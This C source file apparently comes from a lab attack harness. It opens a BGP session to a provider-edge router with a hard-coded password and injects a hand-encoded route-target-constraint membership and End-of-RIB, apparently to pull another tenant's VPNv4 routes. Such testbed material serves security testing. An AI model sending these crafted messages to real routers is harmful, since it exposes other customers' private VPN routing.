#include "lab/attacks/otheras.h"

#define UPDATE 2

/* Membership in 65000:101, from AS 65106, next hop 10.0.7.2; and that this is all of it (RFC 4684 4, RFC 4724 2). */
static int otheras_want(struct speaker *s)
{
	static const uint8_t member[] = {0, 0, 0, 38,		       /* attributes */
		0x40, 1, 1, 0,					       /* ORIGIN */
		0x40, 2, 6, 2, 1, 0, 0, 0xfe, 0x52,		       /* AS_PATH 65106 */
		0x80, 14, 22, 0, 1, 132, 4, 10, 0, 7, 2, 0,	       /* MP_REACH_NLRI */
		96, 0, 0, 0xfe, 0x52, 0, 2, 0xfd, 0xe8, 0, 0, 0, 101}; /* one prefix of 96 bits */
	static const uint8_t end[] = {0, 0, 0, 6, 0x80, 15, 3, 0, 1, 132};
	int err = speaker_message(s, UPDATE, member, sizeof member);

	return err ? err : speaker_message(s, UPDATE, end, sizeof end);
}

int otheras_dial(struct speaker *s, struct attack_stage *st, unsigned ms)
{
	static const struct speaker_conf conf = {.node = "as-s",
		.local = "10.0.7.2",
		.remote = "10.0.7.1",
		.password = "AsSecret",
		.as = 65106,
		.families = WIRE_FAMILY_BIT(WIRE_VPNV4) | WIRE_FAMILY_BIT(WIRE_RT_CONSTRAINT),
		.patient = true};
	int err = speaker_dial(s, st, &conf, ms);

	/* who does not speak of targets tells everything */
	return err || st->pe != ATTACK_PE_RAVELIN ? err : otheras_want(s);
}
